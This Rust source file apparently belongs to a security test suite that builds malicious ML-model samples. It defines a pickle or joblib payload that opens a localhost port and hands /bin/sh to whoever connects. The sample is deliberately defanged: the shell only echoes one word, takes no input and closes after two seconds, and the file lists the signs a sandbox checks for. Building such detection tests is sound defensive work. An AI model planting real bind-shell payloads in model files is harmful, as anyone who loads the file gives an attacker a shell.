//! A port on which a shell waits: the other half of a reverse shell.

use super::*;

/// A port is opened, and who connects is given a shell.
pub const ATTACK: Attack = Attack {
    id: "listening-shell",
    title: "a shell that waits at a port",
    summary: "The pickle opens a port on this machine and starts a shell for whoever \
              connects. Here a thread of its own connects and keeps the answer in a file; the \
              shell says one line and reads nothing, and after two seconds the port is closed.",
    severity: Severity::Critical,
    targets: Targets::Python(&[Loader::Pickle, Loader::Joblib]),
    techniques: &[techniques::UNIX_SHELL, techniques::PYTHON, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502, 78],
    references: &[
        Reference {
            title: "JFrog: malicious models on Hugging Face with a silent backdoor",
            url: "https://jfrog.com/blog/data-scientists-targeted-by-malicious-hugging-face-ml-models-with-silent-backdoor/",
        },
        Reference {
            title: "Python documentation: socket",
            url: "https://docs.python.org/3/library/socket.html",
        },
    ],
    build,
    expected: Expected::Effect {
        aquarium: &[
            Sign::Created("answer.txt"),
            Sign::Happened(EventKind::Bind, "127.0.0.1:47011"),
        ],
        policy: &[Evidence { kind: EventKind::Bind, text: "127.0.0.1:47011" }],
    },
    quick: false,
};

/// The port on which it waits.
const PORT: u16 = 47_011;

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let answer = payload::quoted(&scene.path("answer.txt"));
    // A true one would give the client as standard input too; this one must be harmless for everybody.
    let source = format!(
        r"
import socket, subprocess, threading
def visit():
    with socket.create_connection(('127.0.0.1', {PORT}), timeout=2) as visitor:
        said = visitor.recv(64)
    if b'fallen' in said:
        with open({answer}, 'wb') as file:
            file.write(said)
listener = socket.socket()
listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
listener.bind(('127.0.0.1', {PORT}))
listener.listen(1)
listener.settimeout(2)
visitor = threading.Thread(target=visit)
visitor.start()
try:
    client, address = listener.accept()
    shell = ['/bin/sh', '-c', 'echo fallen']
    subprocess.run(shell, stdin=subprocess.DEVNULL, stdout=client.fileno(), timeout=1)
    client.close()
except socket.timeout:
    pass
listener.close()
visitor.join()
"
    );
    payload::program(ATTACK.id, target, &source)
}
